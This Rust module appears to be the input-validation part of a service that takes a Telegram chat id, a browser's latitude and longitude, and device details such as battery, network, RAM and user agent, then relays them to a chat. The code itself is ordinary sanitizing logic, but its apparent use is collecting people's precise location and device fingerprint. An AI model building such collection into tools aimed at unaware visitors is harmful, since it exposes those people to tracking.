//! Form intake: allow-list, required fields, coordinate checks, sanitizing.

use serde::{Deserialize, Serialize};
use std::collections::HashMap;

use crate::error::{RelayError, Result};

pub const REQUIRED_FIELDS: [&str; 3] = ["chat_id", "latitude", "longitude"];

pub const OPTIONAL_FIELDS: [&str; 9] = [
    "user_agent",
    "timezone",
    "battery_level",
    "battery_charging",
    "network_type",
    "network_speed",
    "ram",
    "storage",
    "country_code",
];

const DEFAULT_MAX_FIELD_LEN: usize = 256;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum SanitizeMode {
    /// Trim, strip control characters, escape Markdown, check `chat_id` shape.
    #[default]
    Strict,
    /// Trim and truncate only.
    Lenient,
}

#[derive(Debug, Clone, Deserialize)]
#[serde(default)]
pub struct IntakeConfig {
    pub validate_coordinates: bool,
    pub sanitize: SanitizeMode,
    pub max_field_len: usize,
}

impl Default for IntakeConfig {
    fn default() -> Self {
        Self {
            validate_coordinates: true,
            sanitize: SanitizeMode::Strict,
            max_field_len: DEFAULT_MAX_FIELD_LEN,
        }
    }
}

/// Optional browser metadata. Values are already sanitized for the message text.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct DeviceInfo {
    pub user_agent: Option<String>,
    pub timezone: Option<String>,
    pub battery_level: Option<String>,
    pub battery_charging: bool,
    pub network_type: Option<String>,
    pub network_speed: Option<String>,
    pub ram: Option<String>,
    pub storage: Option<String>,
    pub country_code: Option<String>,
}

/// A validated submission, ready for the relay.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct LocationReport {
    pub chat_id: String,
    pub latitude: String,
    pub longitude: String,
    pub device: DeviceInfo,
}

fn is_allowed(name: &str) -> bool {
    REQUIRED_FIELDS.contains(&name) || OPTIONAL_FIELDS.contains(&name)
}

/// Validates decoded form pairs into a [`LocationReport`].
pub fn parse_submission(fields: Vec<(String, String)>, config: &IntakeConfig) -> Result<LocationReport> {
    let mut values: HashMap<String, String> = HashMap::with_capacity(fields.len());
    for (name, value) in fields {
        if !is_allowed(&name) {
            return Err(RelayError::Validation(format!("Unknown field: {}", name)));
        }
        if values.contains_key(&name) {
            return Err(RelayError::Validation(format!("Duplicate field: {}", name)));
        }
        let cleaned = clean(&value, config.sanitize, config.max_field_len);
        values.insert(name, cleaned);
    }

    let mut take = |name: &str| values.remove(name).filter(|v| !v.is_empty());

    let (Some(chat_id), Some(latitude), Some(longitude)) =
        (take("chat_id"), take("latitude"), take("longitude"))
    else {
        return Err(RelayError::Validation(
            "Missing required parameters.".to_string(),
        ));
    };

    if config.sanitize == SanitizeMode::Strict && !is_valid_chat_id(&chat_id) {
        return Err(RelayError::Validation("Invalid chat_id".to_string()));
    }

    let (latitude, longitude) = if config.validate_coordinates {
        check_coordinate(&latitude, 90.0, "latitude")?;
        check_coordinate(&longitude, 180.0, "longitude")?;
        (latitude, longitude)
    } else if config.sanitize == SanitizeMode::Strict {
        // unchecked coordinates end up in the Markdown message like any other text
        (escape_markdown(&latitude), escape_markdown(&longitude))
    } else {
        (latitude, longitude)
    };

    let mut text = |name: &str| {
        take(name).map(|v| match config.sanitize {
            SanitizeMode::Strict => escape_markdown(&v),
            SanitizeMode::Lenient => v,
        })
    };

    let device = DeviceInfo {
        user_agent: text("user_agent"),
        timezone: text("timezone"),
        battery_level: text("battery_level"),
        battery_charging: text("battery_charging").as_deref() == Some("true"),
        network_type: text("network_type"),
        network_speed: text("network_speed"),
        ram: text("ram"),
        storage: text("storage"),
        country_code: text("country_code"),
    };

    Ok(LocationReport {
        chat_id,
        latitude,
        longitude,
        device,
    })
}

fn check_coordinate(raw: &str, bound: f64, name: &str) -> Result<()> {
    match raw.parse::<f64>() {
        Ok(value) if value.is_finite() && (-bound..=bound).contains(&value) => Ok(()),
        _ => Err(RelayError::Validation(format!("Invalid {}", name))),
    }
}

/// Numeric ids (groups are negative) or a public `@username`.
fn is_valid_chat_id(chat_id: &str) -> bool {
    if let Some(username) = chat_id.strip_prefix('@') {
        return username.len() >= 5
            && username.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    }
    let digits = chat_id.strip_prefix('-').unwrap_or(chat_id);
    !digits.is_empty() && digits.chars().all(|c| c.is_ascii_digit())
}

fn clean(value: &str, mode: SanitizeMode, max_len: usize) -> String {
    let trimmed = value.trim();
    match mode {
        SanitizeMode::Strict => trimmed
            .chars()
            .filter(|c| !c.is_control())
            .take(max_len)
            .collect(),
        SanitizeMode::Lenient => trimmed.chars().take(max_len).collect(),
    }
}

/// Escapes the characters legacy Telegram Markdown treats as entity markers.
pub fn escape_markdown(value: &str) -> String {
    let mut escaped = String::with_capacity(value.len());
    for c in value.chars() {
        if matches!(c, '_' | '*' | '`' | '[') {
            escaped.push('\\');
        }
        escaped.push(c);
    }
    escaped
}
